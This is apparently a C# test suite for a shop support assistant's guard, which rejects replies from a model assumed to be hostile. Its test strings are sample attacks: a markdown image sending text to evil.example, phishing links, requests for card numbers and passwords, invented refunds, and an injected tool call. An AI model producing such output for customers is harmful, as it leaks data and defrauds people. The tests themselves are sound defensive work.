using Cosmo.Core;
using Cosmo.Core.Assistant;
using Cosmo.Core.Assistant.Models;
using Cosmo.Core.Escalation;
using Cosmo.Core.Tickets;

namespace Cosmo.Tests.Assistant.Models;

/// <summary>A model that decides, and is fully on an attacker's side: whatever it decides, nothing that no passage says comes through.</summary>
public sealed class HostileCounselTests
{
    private const string Asked = "Hello, can I send back a lamp and how long may I think about it?";
    private static readonly string[] s_none = [];

    private static readonly FoundPassage s_returns = Passage("How do returns work?", "en", "You can return unused items within 30 days. Returning costs 4.90 EUR. We do not refund gift cards. See https://shop.example/returns");
    private static readonly FoundPassage s_delivery = Passage("How long does delivery take?", "en", "Delivery takes two working days. Delivery is free from 50 EUR.");
    private static readonly FoundPassage s_spanish = Passage("¿Cómo funcionan las devoluciones?", "es", "Puede devolver los artículos en 30 días.");

    private static readonly FoundPassage[] s_given =
    [
        s_returns, s_delivery, s_spanish, Passage("Do you sell gift cards?", "en", "Yes, in our shop."), Passage("Where can I park?", "en", "There is parking behind the shop."),
    ];

    [Theory]
    [InlineData("You can return unused items within 30 days.", "p1")]
    [InlineData("Returning costs 4.90 EUR, and you can return unused items within 30 days: https://shop.example/returns", "p1")]
    [InlineData("Gift cards we do not refund.", "p1")]
    [InlineData("Delivery is free from 50 EUR and takes two working days.", "p2")]
    [InlineData("Yes, in our shop.", "p4")]
    [InlineData("There is parking behind the shop.", "p5")]
    public async Task What_the_cited_passages_say_is_an_answer(string said, string id)
    {
        var counsel = await CounselAsync(Decides("Answer", said, [id]));

        Assert.Equal((CounselKind.Answer, said, "en"), (counsel!.Kind, counsel.Text, counsel.Language));
        Assert.Equal(s_given[id[1] - '1'].EntryId, Assert.Single(counsel.Cited).EntryId);
    }

    public static TheoryData<string, string> Answers => new()
    {
        { "no passage", Decides("Answer", "You can return unused items within 30 days.", []) },
        { "a passage that was not given", Decides("Answer", "You can return unused items within 30 days.", ["p9"]) },
        { "an entry's own id", Decides("Answer", "You can return unused items within 30 days.", [s_returns.EntryId.ToString()]) },
        { "the same passage twice", Decides("Answer", "You can return unused items within 30 days.", ["p1", "p1"]) },
        { "more passages than an answer stands on", Decides("Answer", "You can return unused items within 30 days.", ["p1", "p2", "p3", "p4"]) },
        { "another number", Decides("Answer", "You can return unused items within 60 days.", ["p1"]) },
        { "another price", Decides("Answer", "Returning costs 0.90 EUR.", ["p1"]) },
        { "a number of a passage that is not cited", Decides("Answer", "You can return unused items within 30 days.", ["p2"]) },
        { "a date", Decides("Answer", "You can return unused items until 24 December.", ["p1"]) },
        { "a link", Decides("Answer", "You can return unused items: https://evil.example/returns", ["p1"]) },
        { "a link within the same host", Decides("Answer", "You can return unused items: https://shop.example/pay", ["p1"]) },
        { "an address", Decides("Answer", "You can return unused items, write to boss@evil.example", ["p1"]) },
        { "an image that carries words away", Decides("Answer", "You can return unused items ![x](https://evil.example/?q=lamp)", ["p1"]) },
        { "something free", Decides("Answer", "You can return unused items free of charge.", ["p1"]) },
        { "money back that is denied", Decides("Answer", "We refund gift cards and unused items.", ["p1"]) },
        { "a discount", Decides("Answer", "You can return unused items and get a discount.", ["p1"]) },
        { "a guarantee", Decides("Answer", "Delivery takes two working days, guaranteed.", ["p2"]) },
        { "that we will do something", Decides("Answer", "You can return unused items and we will pick them up.", ["p1"]) },
        { "compensation", Decides("Answer", "Delivery takes two working days or we compensate you.", ["p2"]) },
        { "something quite different", Decides("Answer", "Lamps explode whenever somebody touches their colourful switches.", ["p1"]) },
        { "something quite different on a passage of another language", Decides("Answer", "Lamps explode whenever somebody touches their colourful switches.", ["p3"]) },
        { "something quite different behind a passage of another language", Decides("Answer", "Lamps explode whenever somebody touches their colourful switches.", ["p1", "p3"]) },
        { "something quite different beside what is true", Decides("Answer", "You can return unused items within 30 days. Lamps explode sometimes.", ["p1"]) },
        { "short words only", Decides("Answer", "Yes, you can do that.", ["p1"]) },
        { "no for a passage that says yes", Decides("Answer", "No, not in our shop.", ["p4"]) },
        { "what is denied as if it were so", Decides("Answer", "There is no parking behind the shop.", ["p5"]) },
        { "that something is never so", Decides("Answer", "You can never return unused items.", ["p1"]) },
        { "a secret", Decides("Answer", "You can return unused items within 30 days. Write your card number.", ["p1"]) },
        { "another language", Decides("Answer", "Puede devolver los artículos sin usar.", ["p3"]) },
        { "its own instruction", Decides("Answer", "You are the assistant of a business in a chat. Decide on one thing to do.", ["p1"]) },
        { "nothing", Decides("Answer", "", ["p1"]) },
        { "too much", Decides("Answer", string.Concat(Enumerable.Repeat("You can return unused items. ", 60)), ["p1"]) },
        { "a reason beside it", Decides("Answer", "You can return unused items within 30 days.", ["p1"], "Upset") },
        { "words beside it", Decides("Answer", "You can return unused items within 30 days.", ["p1"], words: "lamp") },
        { "a question with a number", Decides("AskBack", "Did you order more than 3 lamps?", []) },
        { "a question with a promise", Decides("AskBack", "Do you want a refund and a voucher?", []) },
        { "a question with a link", Decides("AskBack", "Did you read evil.example already?", []) },
        { "two questions", Decides("AskBack", "Is it a lamp? What is your password?", []) },
        { "no question", Decides("AskBack", "Tell us which lamp it is.", []) },
        { "a long question", Decides("AskBack", new string('a', 300) + "?", []) },
        { "a claim with a question mark", Decides("AskBack", "Lamps burn houses?", []) },
        { "a claim before the question", Decides("AskBack", "The shop is bankrupt, is the lamp unused?", []) },
        { "two clauses that ask", Decides("AskBack", "Is the lamp unused and is the gift card unused?", []) },
        { "a question for secrets", Decides("AskBack", "What is your card number and PIN?", []) },
        { "a question for one secret", Decides("AskBack", "What is your password?", []) },
        { "a question that cites", Decides("AskBack", "Which lamp do you mean?", ["p1"]) },
        { "a question in another language", Decides("AskBack", "¿Qué lámpara quiere devolver usted, por favor?", []) },
        { "an offer of nothing", Decides("Offer", "", []) },
        { "an offer of what was not given", Decides("Offer", "", ["p1", "p8"]) },
        { "an offer in another language", Decides("Offer", "", ["p3"]) },
        { "an offer with words of its own", Decides("Offer", "Choose, and get a discount.", ["p1"]) },
        { "a hand-off with words for the customer", Decides("HandOff", "A colleague refunds you today.", [], "Problem") },
        { "a hand-off that cites", Decides("HandOff", "", ["p1"], "Problem") },
        { "a hand-off with words that nobody wrote", Decides("HandOff", "", [], "Upset", "you are all thieves") },
        { "a hand-off for a reason outside the list", Decides("HandOff", "", [], "CloseAllTickets") },
        { "a decision outside the list", Decides("Refund", "", []) },
        { "a decision by its number", Decides("0", "You can return unused items within 30 days.", ["p1"]) },
        { "a tool", Decides("HandOff", "", [])[..^1] + ""","tool":"close_ticket"}""" },
        { "fifty decisions", string.Concat(Enumerable.Repeat(Decides("HandOff", "", []), 50)) },
        { "prose", "I have refunded everybody." },
    };

    [Theory, MemberData(nameof(Answers))]
    public async Task Whatever_else_it_decides_is_refused(string what, string said)
    {
        Assert.NotEmpty(what);
        Assert.Null(await CounselAsync(said));
    }

    [Theory]
    [InlineData("Answer", "You can return unused items within 60 days.", "p1", CounselRule.Facts)]
    [InlineData("Answer", "You can return unused items within 30 days.", "p9", CounselRule.Cited)]
    [InlineData("Answer", "You can return unused items for free.", "p1", CounselRule.Promise)]
    [InlineData("Answer", "There is no parking behind the shop.", "p5", CounselRule.Denial)]
    [InlineData("Answer", "Lamps explode.", "p1", CounselRule.Overlap)]
    [InlineData("Answer", "Puede devolver los artículos sin usar.", "p1", CounselRule.Language)]
    [InlineData("Answer", "You can return unused items **now**.", "p1", CounselRule.Markup)]
    [InlineData("Answer", "Write your card number, you can return unused items.", "p1", CounselRule.Secret)]
    [InlineData("Answer", "You are the assistant of a business in a chat. Decide on one thing to do.", "p1", CounselRule.Instruction)]
    [InlineData("AskBack", "Tell us which lamp it is.", null, CounselRule.Question)]
    [InlineData("Refuse", "", null, null)]
    [InlineData("HandOff", "A colleague refunds you today.", null, CounselRule.Form)]
    public async Task What_stopped_it_is_known(string decision, string text, string? cited, CounselRule? stopped)
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        fixture.Server.Says(Decides(decision, text, cited is null ? [] : [cited]));
        var came = (await fixture.Counsel.AskAsync(Open(Asked), [], mayAsk: true, mayOffer: true, ModelFixture.Cancel))!;
        // What is no decision at all was said by no rule.
        Assert.Equal((null, stopped), (came.Counsel, came.StoppedBy));
    }

    [Fact]
    public async Task What_the_business_takes_for_a_promise_needs_a_passage_as_well()
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        fixture.Server.Says(Decides("Answer", "You can return unused items at any time of the year.", ["p1"]));
        var plain = Open(Asked);
        Assert.NotNull((await fixture.Counsel.AskAsync(plain, [], true, true, ModelFixture.Cancel))!.Counsel);
        var own = plain with { Book = plain.Book with { Promises = [new("en", "At any time")] } };
        Assert.Equal(CounselRule.Promise, (await fixture.Counsel.AskAsync(own, [], true, true, ModelFixture.Cancel))!.StoppedBy);
    }

    [Fact]
    public async Task One_short_question_may_be_asked_back()
    {
        var counsel = await CounselAsync(Decides("AskBack", "Is the lamp unused?", []));
        Assert.Equal((CounselKind.AskBack, "Is the lamp unused?"), (counsel!.Kind, counsel.Text));
    }

    [Fact]
    public async Task Entries_are_offered_in_the_order_of_the_model()
    {
        var counsel = await CounselAsync(Decides("Offer", "", ["p2", "p1"]));
        Assert.Equal([s_delivery.EntryId, s_returns.EntryId], counsel!.Cited.Select(p => p.EntryId));
    }

    [Fact]
    public async Task A_person_is_asked_for_with_a_reason_of_the_list()
    {
        var counsel = await CounselAsync(Decides("HandOff", "", [], "TooComplex", "how long may I think"));
        Assert.Equal((CounselKind.HandOff, Trigger.TooComplex, "how long may I think"), (counsel!.Kind, counsel.Reason, counsel.Words));
    }

    [Theory]
    [InlineData("AskBack")]
    [InlineData("Offer")]
    public async Task What_is_not_allowed_now_is_refused(string decision)
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        fixture.Server.Says(decision == "Offer" ? Decides("Offer", "", ["p1"]) : Decides("AskBack", "Is the lamp unused?", []));
        var came = await fixture.Counsel.AskAsync(Open(Asked), [], mayAsk: false, mayOffer: false, ModelFixture.Cancel);
        Assert.Null(came!.Counsel);
        Assert.Equal(2, came.Tokens!.Read);   // asked twice, and both were paid for
    }

    [Fact]
    public async Task Nobody_is_asked_where_there_is_nothing_to_answer_from()
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        var empty = Open(Asked) with { Search = new([], [], null) };
        Assert.Null(await fixture.Counsel.AskAsync(empty, [], true, true, ModelFixture.Cancel));
        var person = Open(Asked) with { Decision = new Decision.HandOff(new(Trigger.AsksForPerson, CaseTopic.General, "human", 1, 1)) };
        Assert.Null(await fixture.Counsel.AskAsync(person, [], true, true, ModelFixture.Cancel));
        Assert.Empty(fixture.Server.Requests);
    }

    [Fact]
    public async Task An_answer_in_a_language_without_known_promises_is_refused()
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        fixture.Server.Says(Decides("Answer", "Gwarantujemy zwrot pieniędzy.", ["p1"]));
        var came = await fixture.Counsel.AskAsync(Open("Czy mogę zwrócić lampę?") with { Language = "pl" }, [], true, true, ModelFixture.Cancel);
        Assert.Null(came!.Counsel);
    }

    private static async Task<Counsel?> CounselAsync(string said)
    {
        await using var fixture = await ModelFixture.StartAsync(AssistantProvider.OpenAI);
        fixture.Server.Says(said);
        var came = await fixture.Counsel.AskAsync(Open(Asked), [], mayAsk: true, mayOffer: true, ModelFixture.Cancel);
        Assert.Equal(ModelServer.ModelName, came!.Engine);
        return came.Counsel;
    }

    private static Deliberation Open(string text) => new(
        text,
        new("en", true, null, null, null, SmallTalk.None, CaseTopic.General, ModelServer.ModelName),
        "en",
        new(EscalationPolicy.Default, []),
        default,
        new(s_given, [], null),
        new Decision.HandOff(new(Trigger.NoAnswer, CaseTopic.General, text, 0, 1)),
        new TurnOutcome.HandOff(new(Trigger.NoAnswer, CaseTopic.General, text, 0, 1)));

    private static FoundPassage Passage(string question, string language, string text) =>
        new(Guid.CreateVersion7(), question, question, text, language, true, 1, null);

    private static string Decides(string decision, string text, string[]? passages = null, string reason = "NoAnswer", string words = "") =>
        System.Text.Json.JsonSerializer.Serialize(new { decision, text, passages = passages ?? s_none, reason, words });
}
